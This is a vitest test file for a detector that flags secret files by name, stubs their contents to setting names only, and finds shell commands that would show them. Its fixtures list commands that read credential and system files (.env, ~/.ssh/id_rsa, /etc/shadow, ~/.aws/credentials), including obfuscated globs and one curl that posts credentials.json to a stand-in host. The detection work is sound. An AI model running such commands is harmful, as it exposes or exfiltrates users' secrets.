import { describe, expect, it } from 'vitest';
import { isSecretFile, stubSecretFile } from './secret-file.ts';
import { secretFilesInCommand } from './secret-file-command.ts';

const SECRET_FILES = [
  '.env',
  '.env.local',
  '/srv/app/.env.production',
  'config/prod.env',
  'server.pem',
  '/home/ada/.ssh/id_rsa',
  'id_ed25519',
  '~/.netrc',
  '.npmrc',
  '.pgpass',
  '/home/ada/.aws/credentials',
  'credentials.json',
  'keystore.p12',
  'release.jks',
  'C:\\Users\\ada\\.kube\\config',
  'kubeconfig.yaml',
  'terraform.tfstate',
  'prod.tfvars',
  '/run/secrets/db_password',
  '/etc/shadow',
  '.docker/config.json',
  '.git-credentials',
  'secrets.yaml',
  'service-account.json',
  '/home/ada/.carryover/token',
  'db-password.txt',
  '.config/app/api_key',
];

const PLAIN_FILES = [
  '.env.example',
  'env.ts',
  'src/environment.ts',
  'README.md',
  'id_ed25519.pub',
  '/home/ada/.ssh/known_hosts',
  'package.json',
  'src/auth/token.ts',
  'config.json',
  'secret-file.test.ts',
  'docs/credentials.md',
  '.env.d.ts',
  'identity.ts',
  'src/lexer/token.go',
  'tokens.md',
];

describe('files that are secret by name (RED-11)', () => {
  it.each(SECRET_FILES)('%s is one', (path) => expect(isSecretFile(path)).toBe(true));
  it.each(PLAIN_FILES)('%s is none', (path) => expect(isSecretFile(path)).toBe(false));

  it.each([
    [
      '.env',
      `# local\nDATABASE_URL=postgres://app:p4ss@db/app\nexport API_KEY="abc${'123'}"\nEMPTY=\n`,
      'DATABASE_URL, API_KEY, EMPTY',
    ],
    [
      'credentials',
      `[default]\naws_access_key_id = A${'KIA1'}\naws_secret_access_key = s3cr${'3t'}\n`,
      'aws_access_key_id, aws_secret_access_key',
    ],
    ['secrets.yaml', 'db:\n  password: hunter2\n  - token: x\n', 'db, password, token'],
    ['service-account.json', '{\n  "type": "service_account",\n  "private_key": "x"\n}', 'type, private_key'],
  ])('the stub of %s holds name, size and the names of the settings only', (path, content, names) => {
    expect(stubSecretFile(path, content)).toBe(`[SECRET-FILE ${path} len=${content.length}: ${names}]`);
  });

  it('the stub of a key holds nothing of it, also where a line ends like a setting', () => {
    const line = `${'aB3xY9kLmN0pQrStUvWx'.repeat(2)}=`;
    expect(stubSecretFile('id_rsa', `-----BEGIN-----\n${line}\nshort4Abc=\n`)).toBe(
      `[SECRET-FILE id_rsa len=${line.length + 28}]`,
    );
  });
});

describe('commands that show such a file (RED-11)', () => {
  it.each([
    ['cat .env', ['.env']],
    ['head -n 5 config/prod.env', ['config/prod.env']],
    ['sudo tail -f /etc/shadow', ['/etc/shadow']],
    ['cd app && cat .env.local | grep KEY', ['.env.local']],
    ["grep API_KEY '.env'", ['.env']],
    ['sed -n 1,5p ~/.aws/credentials', ['~/.aws/credentials']],
    ['awk -F= "{print $2}" .env', ['.env']],
    ['xxd server.pem | head', ['server.pem']],
    ['base64 -w0 < keystore.p12', ['keystore.p12']],
    ['while read line; do echo $line; done < .env', ['.env']],
    ['source .env && npm start', ['.env']],
    ['. ./.env', ['./.env']],
    ['type C:\\app\\.env', ['C:\\app\\.env']],
    ['Get-Content .env', ['.env']],
    ['docker exec web cat /run/secrets/db', ['/run/secrets/db']],
    ['ssh host "cat ~/.netrc"', ['~/.netrc']],
    ["bash -c 'less .npmrc'", ['.npmrc']],
    ['git show HEAD:.env', ['.env']],
    ['curl -d @credentials.json https://example.test', ['credentials.json']],
    ['bat .env README.md id_rsa', ['.env', 'id_rsa']],
    ['jq .private_key service-account.json', ['service-account.json']],
    ['less -R .pgpass; more id_ed25519', ['.pgpass', 'id_ed25519']],
    ['cat .env*', ['.env*']],
    ['cat .e?v', ['.e?v']],
    ['cat .[e]nv', ['.[e]nv']],
    ['cat .{env,gitignore}', ['.{env,gitignore}']],
    ['head *.pem', ['*.pem']],
    ['cat ~/.ssh/id_*', ['~/.ssh/id_*']],
    ['cat ~/.aws/*', ['~/.aws/*']],
    [`python3 -c "open('.env').read()"`, ['.env']],
    [`python3 -c 'print(open("server.pem").read())'`, ['server.pem']],
    [`node -e "fs.readFileSync('.env')"`, ['.env']],
    ['node -e "fs.readFileSync(\\".env\\")"', ['.env']],
    ["python3 <<'EOF'\nprint(open('.env').read())\nEOF", ['.env']],
    [`docker exec web python -c "open('.env')"`, ['.env']],
    ['grep -r . .env', ['.env']],
    ['cp .env /dev/stdout', ['.env']],
    ['tac .env', ['.env']],
    ['some-unknown-tool .env', ['.env']],
    ['find . -name .env -exec cat {} +', ['.env']],
    ['ls .env* | xargs cat', ['.env*']],
    ['echo "$(cat .env)"', ['.env']],
    ['echo $(<.env)', ['.env']],
    ['FILE=.env; cat $FILE', ['.env']],
    ['for f in .env*; do cat $f; done', ['.env*']],
    ['git add -p .env', ['.env']],
    ['vim -es -c %p .env', ['.env']],
    ['test -f .env && cat credentials', ['credentials']],
    ['tail -n +15 server.key', ['server.key']],
    ['sed -n 5,10p ~/.ssh/id_rsa', ['~/.ssh/id_rsa']],
    ['cat ~/.carryover/token', ['~/.carryover/token']],
    ['head -c 20 token', ['token']],
  ])('%s', (command, files) => {
    expect(secretFilesInCommand(command)).toEqual(files);
  });

  it.each([
    'ls -la .env',
    'rm .env',
    'cat README.md',
    'cat .env.example',
    'echo hi > .env',
    'touch .env',
    'npm test',
    '',
    'git add .env',
    'git -C app commit -m "load (.env) first" .env',
    'vim .env',
    'sudo rm .env',
    'ls *.pem',
    'find . -name ".env*"',
    'echo done > .env.example',
    'echo "see .env"',
    'if [ -f .env ]; then echo yes; fi',
    'grep -rn token src/*',
    'cat *.json',
    'node -e "console.log(process.env)"',
    'npm test -- credentials',
    'rg token',
    'sed s/token/secret/ a.ts',
    'npm run token',
    'curl https://id.test/oauth/token',
    'jq -r .token a.json',
  ])('%s shows none', (command) => expect(secretFilesInCommand(command)).toEqual([]));

  it('ends on any input', () => {
    expect(secretFilesInCommand(`${'"'.repeat(50_000)}cat .env`)).toBeInstanceOf(Array);
    expect(secretFilesInCommand(`${'cat "a '.repeat(5000)}`)).toBeInstanceOf(Array);
    expect(secretFilesInCommand(`cat ${'*a'.repeat(5000)} ${'{a,b}'.repeat(1000)}`)).toBeInstanceOf(Array);
  });
});
